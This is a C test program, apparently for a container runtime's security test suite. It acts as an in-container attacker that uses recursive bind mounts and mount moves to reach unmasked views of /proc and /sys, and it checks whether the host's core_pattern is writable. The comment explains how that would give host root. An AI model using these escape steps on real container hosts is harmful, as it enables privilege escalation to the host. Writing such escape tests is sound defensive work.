/* An attacker's program for tests/security/test_mount_views.py: run as a
 * container's root with CAP_SYS_ADMIN (mount is emulated, brandpy/
 * syscalls/handlers/mount.py), it gets brandpy's views of /proc and /sys
 * to a path where their read-only and masked submounts do not reach:
 *
 *   rbind  mount --rbind / /mnt2 (whose copy of /proc came without the
 *          masks), then umount /mnt2/proc/sys (a copy: the container's
 *          own to unmount)
 *   move   mount -t proc proc /proc (a mount of the container's), then
 *          mount --move /proc /x; the same for sysfs to /y
 *
 * Then, under each path reached, it opens the host's kernel.core_pattern
 * for writing (and closes it unwritten: a write would run a program of
 * its choosing as the host's root at the next crash) and reads the masked
 * timer_list and firmware. "WRITABLE PATH" or "READ PATH" is an escape;
 * "DONE" at the end.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

static void said(const char *what, long rc)
{
    printf("%s = %ld%s%s\n", what, rc, rc < 0 ? " " : "", rc < 0 ? strerror(errno) : "");
}

static void probe(const char *proc, const char *sys)
{
    char path[128], buf[64];
    snprintf(path, sizeof path, "%s/sys/kernel/core_pattern", proc);
    int fd = open(path, O_WRONLY);
    if (fd >= 0) {
        printf("WRITABLE %s\n", path);
        close(fd);
    }
    snprintf(path, sizeof path, "%s/timer_list", proc);
    fd = open(path, O_RDONLY);
    if (fd >= 0 && read(fd, buf, sizeof buf) > 0)
        printf("READ %s\n", path);
    if (fd >= 0)
        close(fd);
    if (sys) {
        snprintf(path, sizeof path, "%s/firmware/acpi", sys);
        fd = open(path, O_RDONLY | O_DIRECTORY);
        if (fd >= 0) {
            printf("READ %s\n", path);
            close(fd);
        }
    }
}

int main(int argc, char **argv)
{
    if (argc == 2 && !strcmp(argv[1], "rbind")) {
        mkdir("/mnt2", 0755);
        said("rbind", mount("/", "/mnt2", NULL, MS_BIND | MS_REC, NULL));
        said("umount copy of /proc/sys", umount2("/mnt2/proc/sys", 0));
        probe("/mnt2/proc", "/mnt2/sys");
    } else if (argc == 2 && !strcmp(argv[1], "move")) {
        mkdir("/x", 0755);
        mkdir("/y", 0755);
        said("mount proc", mount("proc", "/proc", "proc", 0, NULL));
        said("move proc", mount("/proc", "/x", NULL, MS_MOVE, NULL));
        said("mount sysfs", mount("sysfs", "/sys", "sysfs", 0, NULL));
        said("move sysfs", mount("/sys", "/y", NULL, MS_MOVE, NULL));
        probe("/x", "/y");
    } else {
        fprintf(stderr, "usage: %s rbind|move\n", argv[0]);
        return 2;
    }
    probe("/proc", "/sys");
    printf("DONE\n");
    return 0;
}
